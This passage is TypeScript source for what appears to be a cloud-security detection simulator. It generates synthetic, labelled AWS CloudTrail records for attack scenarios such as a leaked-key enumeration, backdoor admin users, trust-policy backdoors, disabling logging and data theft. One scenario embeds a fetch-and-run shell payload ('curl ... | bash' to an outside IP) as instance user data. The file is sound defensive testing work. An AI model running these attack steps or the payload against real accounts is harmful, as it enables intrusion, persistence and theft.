/**
 * Attack scenarios the simulator mixes into the organisation's normal activity, at least one for
 * every row of the threat matrix. Each does what an intruder does with the access it has (a leaked
 * long-term key, a phished Identity Center session, instance credentials taken through SSRF, a
 * foothold on an application host), records shaped like the benign ones, from the attacker's
 * addresses and tools, at times after the learning period. Every record and flow it produces
 * carries its scenario id, so the labels file can say exactly which events belong to which attack.
 */
import type { Row } from '../engine/rule.js';
import type { JsonObject } from '../model/event.js';
import type { CtItem } from './benign.js';
import { flowLine, type FlowItem } from './flows.js';
import { GLOBAL, PRIMARY, cliAgent, hostsOf, type Org, type Person } from './org.js';
import { DAY, HOUR, MINUTE, Rng } from './random.js';
import {
  credentials,
  ctEvent,
  iamUser,
  roleSession,
  sessionKey,
  stsExpiry,
  type Call,
  type Caller,
} from './records.js';

export type Item = CtItem | FlowItem;

export interface Scenario {
  id: string;
  rows: Row[];
  title: string;
  /** Builds the scenario's records starting at `t0`. */
  build: (ctx: AttackContext, t0: number) => void;
  /** Hour of the day (UTC) the attack starts, or undefined for any. */
  hour?: number;
}

export const ATTACKER_ACCOUNT = '918273645502';
const VPS = ['45.155.205.', '138.68.', '5.188.', '159.65.'];
const KALI_BOTO =
  'Boto3/1.34.144 md/Botocore#1.34.144 ua/2.0 os/linux#6.8.11-amd64 md/arch#x86_64 lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.144';
const ATTACKER_CLI = cliAgent('linux#6.8.11-amd64');

export class AttackContext {
  readonly items: Item[] = [];
  constructor(
    readonly org: Org,
    readonly rng: Rng,
    readonly scenario: string,
  ) {}

  ct(t: number, account: string, region: string, caller: Caller, call: Call): JsonObject {
    const record = ctEvent(this.rng, t, account, region, caller, call);
    this.items.push({ kind: 'ct', account, region, time: t, record, attack: this.scenario });
    return record;
  }
  flow(t: number, account: string, line: string): void {
    this.items.push({
      kind: 'flow',
      account,
      region: PRIMARY,
      time: t,
      line,
      attack: this.scenario,
    });
  }
  vps(prefix?: string): string {
    const parts = (prefix ?? this.rng.pick(VPS)).split('.').filter((x) => x !== '');
    while (parts.length < 4) parts.push(String(this.rng.range(2, 250)));
    return parts.join('.');
  }
  /** A person's Identity Center session, taken over and used from the attacker's address. */
  stolenSession(
    p: Person,
    account: string,
    address: string,
    t: number,
    userAgent = ATTACKER_CLI,
  ): Caller {
    const access = p.access.find((a) => a.account === account) ?? p.access[0];
    const set = access?.set ?? 'ReadOnly';
    const role = this.org.ssoRoles[account]?.[set] as { name: string; id: string };
    return {
      identity: roleSession({
        account,
        role: role.name,
        roleId: role.id,
        session: p.email,
        key: sessionKey(this.rng),
        created: t - 2 * HOUR,
        path: 'aws-reserved/sso.amazonaws.com/eu-west-1/',
      }),
      address,
      userAgent,
    };
  }
}

const admin = (org: Org) => org.people.find((p) => p.set === 'AdministratorAccess') as Person;
const developer = (org: Org) =>
  org.people.find((p) => p.set === 'Developer') ?? (org.people[org.people.length - 1] as Person);

function steps(ctx: AttackContext, t0: number, gapSeconds: [number, number]) {
  let t = t0;
  return () => (t += ctx.rng.range(gapSeconds[0], gapSeconds[1]) * 1000);
}

export const SCENARIOS: readonly Scenario[] = [
  {
    id: 'leaked-reporting-key',
    rows: ['IAM-3', 'CRED-1', 'REC-1'],
    title:
      "The reporting integration's access key, leaked in a public repository, used from a VPS to mint a session and enumerate the account",
    hour: 23,
    build(ctx, t0) {
      const org = ctx.org;
      const u = org.reportingUser;
      const ip = ctx.vps('45.155.205.');
      const next = steps(ctx, t0, [2, 20]);
      const user: Caller = {
        identity: iamUser({ account: u.account, name: u.name, id: u.id, key: u.key }),
        address: ip,
        userAgent: KALI_BOTO,
      };
      ctx.ct(next(), u.account, GLOBAL, user, {
        source: 'sts.amazonaws.com',
        name: 'GetCallerIdentity',
        readOnly: true,
      });
      const key = sessionKey(ctx.rng);
      const t1 = next();
      ctx.ct(t1, u.account, GLOBAL, user, {
        source: 'sts.amazonaws.com',
        name: 'GetSessionToken',
        readOnly: true,
        params: { durationSeconds: 43200 },
        response: { credentials: credentials(ctx.rng, key, t1, 43200) },
      });
      const session: Caller = {
        identity: {
          ...iamUser({ account: u.account, name: u.name, id: u.id, key }),
          sessionContext: {
            attributes: {
              creationDate: new Date(t1).toISOString().replace(/\.\d+Z$/, 'Z'),
              mfaAuthenticated: 'false',
            },
          },
        },
        address: ip,
        userAgent: KALI_BOTO,
      };
      const calls: [string, string][] = [
        ['iam', 'ListUsers'], ['iam', 'ListRoles'], ['iam', 'ListPolicies'], ['iam', 'ListGroups'], ['iam', 'GetAccountAuthorizationDetails'],
        ['iam', 'ListAccessKeys'], ['iam', 'GetAccountSummary'], ['iam', 'ListAttachedUserPolicies'], ['iam', 'ListUserPolicies'], ['iam', 'GetUser'],
        ['s3', 'ListBuckets'], ['ec2', 'DescribeInstances'], ['ec2', 'DescribeSecurityGroups'], ['ec2', 'DescribeVpcs'], ['ec2', 'DescribeSubnets'],
        ['ec2', 'DescribeSnapshots'], ['ec2', 'DescribeVolumes'], ['ec2', 'DescribeKeyPairs'], ['ec2', 'DescribeImages'], ['ec2', 'DescribeRegions'],
        ['lambda', 'ListFunctions20150331'], ['rds', 'DescribeDBInstances'], ['rds', 'DescribeDBSnapshots'], ['secretsmanager', 'ListSecrets'], ['ssm', 'DescribeParameters'],
        ['kms', 'ListKeys'], ['kms', 'ListAliases'], ['cloudtrail', 'DescribeTrails'], ['guardduty', 'ListDetectors'], ['organizations', 'DescribeOrganization'],
        ['sns', 'ListTopics'], ['sqs', 'ListQueues'], ['dynamodb', 'ListTables'], ['ecr', 'DescribeRepositories'], ['ecs', 'ListClusters'],
        ['eks', 'ListClusters'], ['cloudformation', 'ListStacks'], ['logs', 'DescribeLogGroups'], ['route53', 'ListHostedZones'], ['acm', 'ListCertificates'],
      ]; // prettier-ignore
      for (const [svc, name] of calls) {
        const global = ['iam', 'organizations', 'route53'].includes(svc) || name === 'ListBuckets';
        const denied =
          ['iam', 'organizations', 'kms', 'guardduty', 'eks'].includes(svc) && name !== 'GetUser';
        ctx.ct(next() - 15_000, u.account, global ? GLOBAL : PRIMARY, session, {
          source: `${svc === 'ec2' ? 'ec2' : svc}.amazonaws.com`,
          name,
          readOnly: true,
          ...(denied
            ? {
                error: {
                  code: svc === 'ec2' ? 'Client.UnauthorizedOperation' : 'AccessDenied',
                  message: `User: arn:aws:iam::${u.account}:user/${u.name} is not authorized to perform: ${svc}:${name.replace(/\d+$/, '')}`,
                },
              }
            : {}),
        });
      }
    },
  },
  {
    id: 'backdoor-admin-user',
    rows: ['IAM-2'],
    title:
      'A phished administrator session creates an IAM user with a key, a console password and AdministratorAccess',
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const caller = ctx.stolenSession(admin(org), acct, ctx.vps('138.68.'), t0);
      const next = steps(ctx, t0, [5, 40]);
      const name = 'svc-backup-sync';
      const uid = `AIDA${ctx.rng.upper(17)}`;
      ctx.ct(next(), acct, GLOBAL, caller, {
        source: 'iam.amazonaws.com',
        name: 'CreateUser',
        readOnly: false,
        params: { userName: name },
        response: {
          user: {
            path: '/',
            userName: name,
            userId: uid,
            arn: `arn:aws:iam::${acct}:user/${name}`,
            createDate: stsExpiry(t0),
          },
        },
      });
      ctx.ct(next(), acct, GLOBAL, caller, {
        source: 'iam.amazonaws.com',
        name: 'CreateAccessKey',
        readOnly: false,
        params: { userName: name },
        response: {
          accessKey: {
            userName: name,
            accessKeyId: `AKIA${ctx.rng.upper(16)}`,
            status: 'Active',
            createDate: stsExpiry(t0),
          },
        },
      });
      ctx.ct(next(), acct, GLOBAL, caller, {
        source: 'iam.amazonaws.com',
        name: 'CreateLoginProfile',
        readOnly: false,
        params: { userName: name, passwordResetRequired: false },
        response: {
          loginProfile: { userName: name, createDate: stsExpiry(t0), passwordResetRequired: false },
        },
      });
      ctx.ct(next(), acct, GLOBAL, caller, {
        source: 'iam.amazonaws.com',
        name: 'AttachUserPolicy',
        readOnly: false,
        params: { userName: name, policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      });
    },
  },
  {
    id: 'root-takeover',
    rows: ['IAM-2'],
    title:
      "The staging account's root password, reset through its shared mailbox, used to sign in and create a root access key",
    hour: 3,
    build(ctx, t0) {
      const acct = ctx.org.accounts.staging.id;
      const ip = ctx.vps('102.89.');
      const ua =
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36';
      const root = {
        type: 'Root',
        principalId: acct,
        arn: `arn:aws:iam::${acct}:root`,
        accountId: acct,
      };
      ctx.ct(
        t0,
        acct,
        GLOBAL,
        { identity: root, address: ip, userAgent: ua },
        {
          source: 'signin.amazonaws.com',
          name: 'ConsoleLogin',
          readOnly: false,
          eventType: 'AwsConsoleSignIn',
          response: { ConsoleLogin: 'Success' },
          additional: {
            LoginTo:
              'https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true',
            MobileVersion: 'No',
            MFAUsed: 'No',
          },
        },
      );
      const session: Caller = {
        identity: {
          ...root,
          accessKeyId: sessionKey(ctx.rng),
          sessionContext: {
            attributes: {
              creationDate: new Date(t0).toISOString().replace(/\.\d+Z$/, 'Z'),
              mfaAuthenticated: 'false',
            },
          },
        },
        address: ip,
        userAgent: ua,
        console: true,
      };
      ctx.ct(t0 + 95_000, acct, GLOBAL, session, {
        source: 'iam.amazonaws.com',
        name: 'CreateAccessKey',
        readOnly: false,
        params: null,
        response: {
          accessKey: {
            accessKeyId: `AKIA${ctx.rng.upper(16)}`,
            status: 'Active',
            createDate: stsExpiry(t0 + 95_000),
          },
        },
      });
    },
  },
  {
    id: 'inline-admin-policy',
    rows: ['IAM-1'],
    title:
      'A phished administrator session gives an application role an inline policy allowing everything',
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const caller = ctx.stolenSession(admin(org), acct, ctx.vps('159.65.'), t0);
      const doc = JSON.stringify({
        Version: '2012-10-17',
        Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
      });
      ctx.ct(t0, acct, GLOBAL, caller, {
        source: 'iam.amazonaws.com',
        name: 'PutRolePolicy',
        readOnly: false,
        params: { roleName: 'batch-worker', policyName: 'ops-debug', policyDocument: doc },
      });
      ctx.ct(t0 + 30_000, acct, GLOBAL, caller, {
        source: 'iam.amazonaws.com',
        name: 'AttachRolePolicy',
        readOnly: false,
        params: {
          roleName: 'orders-api',
          policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
        },
      });
    },
  },
  {
    id: 'trust-policy-backdoor',
    rows: ['PER-1', 'XACCT-1'],
    title:
      "A phished administrator session lets the attacker's account assume a production role, and the attacker does",
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const caller = ctx.stolenSession(admin(org), acct, ctx.vps('45.155.205.'), t0);
      const role = 'OrganizationAccountAccessRole';
      const policy = JSON.stringify({
        Version: '2012-10-17',
        Statement: [
          {
            Effect: 'Allow',
            Principal: { AWS: `arn:aws:iam::${org.accounts.management.id}:root` },
            Action: 'sts:AssumeRole',
          },
          {
            Effect: 'Allow',
            Principal: { AWS: `arn:aws:iam::${ATTACKER_ACCOUNT}:root` },
            Action: 'sts:AssumeRole',
          },
        ],
      });
      ctx.ct(t0, acct, GLOBAL, caller, {
        source: 'iam.amazonaws.com',
        name: 'UpdateAssumeRolePolicy',
        readOnly: false,
        params: { roleName: role, policyDocument: policy },
      });
      const t1 = t0 + 3 * HOUR + ctx.rng.int(HOUR);
      const key = sessionKey(ctx.rng);
      const arn = `arn:aws:iam::${acct}:role/${role}`;
      ctx.ct(
        t1,
        acct,
        PRIMARY,
        {
          identity: {
            type: 'AWSAccount',
            principalId: `AIDA${ctx.rng.upper(17)}`,
            accountId: ATTACKER_ACCOUNT,
          },
          address: ctx.vps('5.188.'),
          userAgent: ATTACKER_CLI,
        },
        {
          source: 'sts.amazonaws.com',
          name: 'AssumeRole',
          readOnly: true,
          params: { roleArn: arn, roleSessionName: 'admin' },
          response: {
            credentials: credentials(ctx.rng, key, t1, 3600),
            assumedRoleUser: {
              assumedRoleId: `${org.roleIds[`${acct}/${role}`] ?? ''}:admin`,
              arn: `arn:aws:sts::${acct}:assumed-role/${role}/admin`,
            },
          },
          resources: [{ accountId: acct, type: 'AWS::IAM::Role', ARN: arn }],
          sharedEventId: ctx.rng.uuid(),
        },
      );
    },
  },
  {
    id: 'staging-to-production',
    rows: ['XACCT-1'],
    title: 'Credentials of a staging workload assume the organisation access role in production',
    build(ctx, t0) {
      const org = ctx.org;
      const staging = org.accounts.staging.id;
      const prod = org.accounts.production.id;
      const host = hostsOf(org, staging, 'app')[0];
      if (host === undefined) return;
      const role = 'OrganizationAccountAccessRole';
      const arn = `arn:aws:iam::${prod}:role/${role}`;
      const caller: Caller = {
        identity: roleSession({
          account: staging,
          role: 'orders-api',
          roleId: org.roleIds[`${staging}/orders-api`] as string,
          session: host.instanceId,
          key: sessionKey(ctx.rng),
          created: t0 - HOUR,
          ec2: { instanceId: host.instanceId },
        }),
        address: (org.nat[staging] as string[])[0] as string,
        userAgent: KALI_BOTO,
      };
      const key = sessionKey(ctx.rng);
      ctx.ct(t0, prod, PRIMARY, caller, {
        source: 'sts.amazonaws.com',
        name: 'AssumeRole',
        readOnly: true,
        params: { roleArn: arn, roleSessionName: 'maint' },
        response: {
          credentials: credentials(ctx.rng, key, t0, 3600),
          assumedRoleUser: {
            assumedRoleId: `${org.roleIds[`${prod}/${role}`] ?? ''}:maint`,
            arn: `arn:aws:sts::${prod}:assumed-role/${role}/maint`,
          },
        },
        resources: [{ accountId: prod, type: 'AWS::IAM::Role', ARN: arn }],
        sharedEventId: ctx.rng.uuid(),
      });
    },
  },
  {
    id: 'lambda-backdoor',
    rows: ['PER-2', 'COMP-1'],
    title:
      'A phished administrator session deploys a Lambda function by hand, opens it to everyone and triggers it on a schedule',
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const caller = ctx.stolenSession(admin(org), acct, ctx.vps('138.68.'), t0);
      const next = steps(ctx, t0, [10, 60]);
      const fn = 'orders-metrics-exporter';
      const fnArn = `arn:aws:lambda:${PRIMARY}:${acct}:function:${fn}`;
      ctx.ct(next(), acct, PRIMARY, caller, {
        source: 'lambda.amazonaws.com',
        name: 'CreateFunction20150331',
        readOnly: false,
        params: {
          functionName: fn,
          runtime: 'python3.12',
          role: `arn:aws:iam::${acct}:role/orders-api`,
          handler: 'index.handler',
          code: {},
          timeout: 300,
          publish: true,
        },
        response: { functionName: fn, functionArn: fnArn, runtime: 'python3.12', state: 'Pending' },
      });
      ctx.ct(next(), acct, PRIMARY, caller, {
        source: 'lambda.amazonaws.com',
        name: 'AddPermission20150331v2',
        readOnly: false,
        params: {
          functionName: fn,
          statementId: 'public',
          action: 'lambda:InvokeFunction',
          principal: '*',
        },
        response: {
          statement: JSON.stringify({
            Sid: 'public',
            Effect: 'Allow',
            Principal: '*',
            Action: 'lambda:InvokeFunction',
            Resource: fnArn,
          }),
        },
      });
      const ruleName = 'orders-metrics-every-15m';
      ctx.ct(next(), acct, PRIMARY, caller, {
        source: 'events.amazonaws.com',
        name: 'PutRule',
        readOnly: false,
        params: { name: ruleName, scheduleExpression: 'rate(15 minutes)', state: 'ENABLED' },
        response: { ruleArn: `arn:aws:events:${PRIMARY}:${acct}:rule/${ruleName}` },
      });
      ctx.ct(next(), acct, PRIMARY, caller, {
        source: 'events.amazonaws.com',
        name: 'PutTargets',
        readOnly: false,
        params: { rule: ruleName, targets: [{ id: '1', arn: fnArn }] },
        response: { failedEntryCount: 0, failedEntries: [] },
      });
    },
  },
  {
    id: 'user-data-backdoor',
    rows: ['PER-3'],
    title:
      'A phished administrator session stops an instance, replaces its user data with a reverse shell and starts it',
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const host = hostsOf(org, acct, 'worker')[0];
      if (host === undefined) return;
      const caller = ctx.stolenSession(admin(org), acct, ctx.vps('159.65.'), t0);
      const next = steps(ctx, t0, [20, 90]);
      const id = host.instanceId;
      ctx.ct(next(), acct, PRIMARY, caller, {
        source: 'ec2.amazonaws.com',
        name: 'StopInstances',
        readOnly: false,
        params: { instancesSet: { items: [{ instanceId: id }] }, force: false },
        response: {
          requestId: ctx.rng.uuid(),
          instancesSet: {
            items: [
              {
                instanceId: id,
                currentState: { code: 64, name: 'stopping' },
                previousState: { code: 16, name: 'running' },
              },
            ],
          },
        },
      });
      const script = Buffer.from('#!/bin/bash\ncurl -s http://5.188.62.10/x.sh | bash\n').toString(
        'base64',
      );
      ctx.ct(next(), acct, PRIMARY, caller, {
        source: 'ec2.amazonaws.com',
        name: 'ModifyInstanceAttribute',
        readOnly: false,
        params: { instanceId: id, userData: { value: script } },
        response: { requestId: ctx.rng.uuid(), _return: true },
      });
      ctx.ct(next(), acct, PRIMARY, caller, {
        source: 'ec2.amazonaws.com',
        name: 'StartInstances',
        readOnly: false,
        params: { instancesSet: { items: [{ instanceId: id }] } },
        response: {
          requestId: ctx.rng.uuid(),
          instancesSet: {
            items: [
              {
                instanceId: id,
                currentState: { code: 0, name: 'pending' },
                previousState: { code: 80, name: 'stopped' },
              },
            ],
          },
        },
      });
    },
  },
  {
    id: 'blind-the-defenders',
    rows: ['EVA-1'],
    title:
      'A phished administrator session stops the organisation trail and deletes the GuardDuty detector',
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const caller = ctx.stolenSession(admin(org), acct, ctx.vps('45.155.205.'), t0);
      const trail = `arn:aws:cloudtrail:${PRIMARY}:${org.accounts.management.id}:trail/${org.name}-org-trail`;
      ctx.ct(t0, acct, PRIMARY, caller, {
        source: 'cloudtrail.amazonaws.com',
        name: 'StopLogging',
        readOnly: false,
        params: { name: trail },
      });
      ctx.ct(t0 + 45_000, acct, PRIMARY, caller, {
        source: 'guardduty.amazonaws.com',
        name: 'DeleteDetector',
        readOnly: false,
        params: { detectorId: ctx.rng.hex(32) },
      });
    },
  },
  {
    id: 'erase-the-tracks',
    rows: ['EVA-2'],
    title:
      'A phished administrator session deletes the CloudTrail log group and the root-usage alarm',
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const caller = ctx.stolenSession(admin(org), acct, ctx.vps('138.68.'), t0);
      ctx.ct(t0, acct, PRIMARY, caller, {
        source: 'logs.amazonaws.com',
        name: 'DeleteLogGroup',
        readOnly: false,
        params: { logGroupName: `aws-cloudtrail-logs-${org.name}-org` },
      });
      ctx.ct(t0 + 20_000, acct, PRIMARY, caller, {
        source: 'monitoring.amazonaws.com',
        name: 'DeleteAlarms',
        readOnly: false,
        params: { alarmNames: ['cis-3.3-root-account-usage', 'cis-3.1-unauthorized-api-calls'] },
      });
    },
  },
  {
    id: 'ssh-open-to-world',
    rows: ['NET-3'],
    title: "A developer's stolen session opens SSH on the workers' security group to the internet",
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.staging.id;
      const caller = ctx.stolenSession(developer(org), acct, ctx.vps('5.188.'), t0);
      ctx.ct(t0, acct, PRIMARY, caller, {
        source: 'ec2.amazonaws.com',
        name: 'AuthorizeSecurityGroupIngress',
        readOnly: false,
        params: {
          groupId: `sg-0${ctx.rng.hex(16)}`,
          ipPermissions: {
            items: [
              {
                ipProtocol: 'tcp',
                fromPort: 22,
                toPort: 22,
                groups: {},
                ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] },
                ipv6Ranges: {},
                prefixListIds: {},
              },
            ],
          },
        },
        response: {
          requestId: ctx.rng.uuid(),
          _return: true,
          securityGroupRuleSet: {
            items: [
              {
                securityGroupRuleId: `sgr-0${ctx.rng.hex(16)}`,
                isEgress: false,
                ipProtocol: 'tcp',
                fromPort: 22,
                toPort: 22,
                cidrIpv4: '0.0.0.0/0',
              },
            ],
          },
        },
      });
    },
  },
  {
    id: 'shadow-endpoint',
    rows: ['NET-2'],
    title:
      'A phished administrator session creates an interface endpoint for Secrets Manager in the production VPC',
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const caller = ctx.stolenSession(admin(org), acct, ctx.vps('159.65.'), t0);
      const vpc = org.flowLogs[acct]?.vpc ?? `vpc-0${ctx.rng.hex(16)}`;
      const id = `vpce-0${ctx.rng.hex(16)}`;
      ctx.ct(t0, acct, PRIMARY, caller, {
        source: 'ec2.amazonaws.com',
        name: 'CreateVpcEndpoint',
        readOnly: false,
        params: {
          CreateVpcEndpointRequest: {
            VpcId: vpc,
            ServiceName: `com.amazonaws.${PRIMARY}.secretsmanager`,
            VpcEndpointType: 'Interface',
            SubnetId: { tag: 1, content: `subnet-0${ctx.rng.hex(16)}` },
            PrivateDnsEnabled: false,
          },
        },
        response: {
          CreateVpcEndpointResponse: {
            vpcEndpoint: {
              vpcEndpointId: id,
              vpcEndpointType: 'Interface',
              vpcId: vpc,
              serviceName: `com.amazonaws.${PRIMARY}.secretsmanager`,
              state: 'pending',
            },
            xmlns: 'http://ec2.amazonaws.com/doc/2016-11-15/',
          },
        },
      });
    },
  },
  {
    id: 'customer-data-theft',
    rows: ['DATA-1'],
    title:
      "A developer's stolen session downloads the customer-data bucket and reads every secret it can list",
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const dev = developer(org);
      const caller = ctx.stolenSession(dev, acct, ctx.vps('45.155.205.'), t0, KALI_BOTO);
      let t = t0;
      ctx.ct(t, acct, PRIMARY, caller, {
        source: 'secretsmanager.amazonaws.com',
        name: 'ListSecrets',
        readOnly: true,
        params: { maxResults: 100 },
      });
      const secrets = [
        org.secrets.db,
        org.secrets.payments,
        org.secrets.search,
        ...Array.from({ length: 10 }, (_, i) => `prod/service-${i}/api-key-${ctx.rng.alnum(6)}`),
      ];
      for (const s of secrets) {
        t += ctx.rng.range(1, 4) * 1000;
        ctx.ct(t, acct, PRIMARY, caller, {
          source: 'secretsmanager.amazonaws.com',
          name: 'GetSecretValue',
          readOnly: true,
          params: { secretId: s },
        });
      }
      for (let i = 0; i < 400; i++) {
        t += ctx.rng.range(200, 1500);
        const b = org.buckets.data;
        const key = `customers/export-${String(i).padStart(5, '0')}.parquet`;
        ctx.ct(t, acct, PRIMARY, caller, {
          source: 's3.amazonaws.com',
          name: 'GetObject',
          readOnly: true,
          data: true,
          params: { bucketName: b, Host: `${b}.s3.${PRIMARY}.amazonaws.com`, key },
          additional: {
            SignatureVersion: 'SigV4',
            CipherSuite: 'TLS_AES_128_GCM_SHA256',
            bytesTransferredIn: 0,
            AuthenticationMethod: 'AuthHeader',
            'x-amz-id-2': ctx.rng.alnum(76),
            bytesTransferredOut: ctx.rng.range(5_000_000, 40_000_000),
          },
          resources: [
            { type: 'AWS::S3::Object', ARN: `arn:aws:s3:::${b}/${key}` },
            { accountId: acct, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${b}` },
          ],
        });
      }
    },
  },
  {
    id: 'snapshot-exfiltration',
    rows: ['DATA-2'],
    title:
      "A phished administrator session snapshots the database host's volume and shares it with the attacker's account",
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const caller = ctx.stolenSession(admin(org), acct, ctx.vps('138.68.'), t0);
      const vol = `vol-0${ctx.rng.hex(16)}`;
      const snap = `snap-0${ctx.rng.hex(16)}`;
      ctx.ct(t0, acct, PRIMARY, caller, {
        source: 'ec2.amazonaws.com',
        name: 'CreateSnapshot',
        readOnly: false,
        params: { volumeId: vol, description: 'backup' },
        response: {
          requestId: ctx.rng.uuid(),
          snapshotId: snap,
          volumeId: vol,
          status: 'pending',
          volumeSize: 500,
          ownerId: acct,
          encrypted: false,
        },
      });
      ctx.ct(t0 + 8 * MINUTE, acct, PRIMARY, caller, {
        source: 'ec2.amazonaws.com',
        name: 'ModifySnapshotAttribute',
        readOnly: false,
        params: {
          snapshotId: snap,
          createVolumePermission: { add: { items: [{ userId: ATTACKER_ACCOUNT }] } },
          attributeType: 'CREATE_VOLUME_PERMISSION',
        },
        response: { requestId: ctx.rng.uuid(), _return: true },
      });
    },
  },
  {
    id: 'cryptomining',
    rows: ['COMP-1'],
    title:
      'A phished administrator session launches GPU instances in a region the organisation does not use',
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.staging.id;
      const caller = ctx.stolenSession(admin(org), acct, ctx.vps('5.188.'), t0);
      const region = 'ap-southeast-1';
      for (let i = 0; i < 3; i++) {
        ctx.ct(t0 + i * 40_000, acct, region, caller, {
          source: 'ec2.amazonaws.com',
          name: 'RunInstances',
          readOnly: false,
          params: {
            instancesSet: {
              items: [{ imageId: `ami-0${ctx.rng.hex(16)}`, minCount: 4, maxCount: 4 }],
            },
            instanceType: 'p3.16xlarge',
            blockDeviceMapping: {},
            monitoring: { enabled: false },
            disableApiTermination: false,
            disableApiStop: false,
          },
          response: {
            requestId: ctx.rng.uuid(),
            reservationId: `r-0${ctx.rng.hex(16)}`,
            ownerId: acct,
            instancesSet: {
              items: Array.from({ length: 4 }, () => ({
                instanceId: `i-0${ctx.rng.hex(16)}`,
                instanceType: 'p3.16xlarge',
                currentState: { code: 0, name: 'pending' },
              })),
            },
          },
        });
      }
    },
  },
  {
    id: 'ssm-shell-by-developer',
    rows: ['COMP-2', 'SVC-1'],
    title:
      "A developer's stolen session opens a Session Manager shell on a staging host and runs a shell script on it",
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.staging.id;
      const host = hostsOf(org, acct, 'app')[0];
      if (host === undefined) return;
      const dev = developer(org);
      const caller = ctx.stolenSession(dev, acct, ctx.vps('159.65.'), t0);
      const sid = `${dev.email}-${ctx.rng.hex(17)}`;
      ctx.ct(t0, acct, PRIMARY, caller, {
        source: 'ssm.amazonaws.com',
        name: 'StartSession',
        readOnly: false,
        params: { target: host.instanceId },
        response: {
          sessionId: sid,
          tokenValue: 'Value hidden due to security reasons.',
          streamUrl: `wss://ssmmessages.${PRIMARY}.amazonaws.com/v1/data-channel/${sid}?role=publish_subscribe&cell-number=AAEAA`,
        },
        resources: [
          { accountId: acct, ARN: `arn:aws:ec2:${PRIMARY}:${acct}:instance/${host.instanceId}` },
        ],
      });
      ctx.ct(t0 + 5 * MINUTE, acct, PRIMARY, caller, {
        source: 'ssm.amazonaws.com',
        name: 'SendCommand',
        readOnly: false,
        params: {
          instanceIds: [host.instanceId],
          documentName: 'AWS-RunShellScript',
          parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS',
          interactive: false,
        },
        response: {
          command: {
            commandId: ctx.rng.uuid(),
            documentName: 'AWS-RunShellScript',
            instanceIds: [host.instanceId],
            status: 'Pending',
          },
        },
      });
    },
  },
  {
    id: 'payments-secret-read',
    rows: ['SVC-1'],
    title:
      "A developer's stolen session reads the payments API key from Secrets Manager and a decrypted parameter",
    build(ctx, t0) {
      const org = ctx.org;
      const acct = org.accounts.production.id;
      const caller = ctx.stolenSession(developer(org), acct, ctx.vps('138.68.'), t0);
      ctx.ct(t0, acct, PRIMARY, caller, {
        source: 'secretsmanager.amazonaws.com',
        name: 'GetSecretValue',
        readOnly: true,
        params: { secretId: org.secrets.payments },
      });
      ctx.ct(t0 + 30_000, acct, PRIMARY, caller, {
        source: 'ssm.amazonaws.com',
        name: 'GetParameter',
        readOnly: true,
        params: { name: '/prod/payments/api-token', withDecryption: true },
      });
    },
  },
  {
    id: 'console-from-abroad',
    rows: ['GEO-1'],
    title:
      "A person's Identity Center credentials used to sign in to the console from Nigeria in the middle of the night",
    hour: 1,
    build(ctx, t0) {
      const org = ctx.org;
      const p = org.people[1] ?? admin(org);
      const access = p.access[0];
      if (access === undefined) return;
      const acct = access.account;
      const role = org.ssoRoles[acct]?.[access.set] as { name: string; id: string };
      const ip = ctx.vps('102.89.');
      const provider = `arn:aws:iam::${acct}:saml-provider/AWSSSO_${role.name.slice(-16)}_DO_NOT_DELETE`;
      const roleArn = `arn:aws:iam::${acct}:role/aws-reserved/sso.amazonaws.com/eu-west-1/${role.name}`;
      const key = sessionKey(ctx.rng);
      const ua =
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36';
      ctx.ct(
        t0,
        acct,
        GLOBAL,
        {
          identity: {
            type: 'SAMLUser',
            principalId: `${provider.split('/')[1] ?? ''}:${p.email}`,
            userName: p.email,
            identityProvider: provider,
          },
          address: ip,
          userAgent: ua,
        },
        {
          source: 'sts.amazonaws.com',
          name: 'AssumeRoleWithSAML',
          readOnly: true,
          params: {
            sAMLAssertionID: `_${ctx.rng.hex(32)}`,
            roleSessionName: p.email,
            roleArn,
            principalArn: provider,
            durationSeconds: 43200,
          },
          response: {
            credentials: credentials(ctx.rng, key, t0, 43200),
            assumedRoleUser: {
              assumedRoleId: `${role.id}:${p.email}`,
              arn: `arn:aws:sts::${acct}:assumed-role/${role.name}/${p.email}`,
            },
            subject: p.email,
            subjectType: 'persistent',
            audience: 'https://signin.aws.amazon.com/saml',
          },
          resources: [
            { accountId: acct, type: 'AWS::IAM::Role', ARN: roleArn },
            { accountId: acct, type: 'AWS::IAM::SAMLProvider', ARN: provider },
          ],
        },
      );
      const caller: Caller = {
        identity: roleSession({
          account: acct,
          role: role.name,
          roleId: role.id,
          session: p.email,
          key,
          created: t0,
          path: 'aws-reserved/sso.amazonaws.com/eu-west-1/',
        }),
        address: ip,
        userAgent: ua,
      };
      ctx.ct(t0 + 2000, acct, GLOBAL, caller, {
        source: 'signin.amazonaws.com',
        name: 'ConsoleLogin',
        readOnly: false,
        eventType: 'AwsConsoleSignIn',
        response: { ConsoleLogin: 'Success' },
        additional: { MobileVersion: 'No', MFAUsed: 'No' },
      });
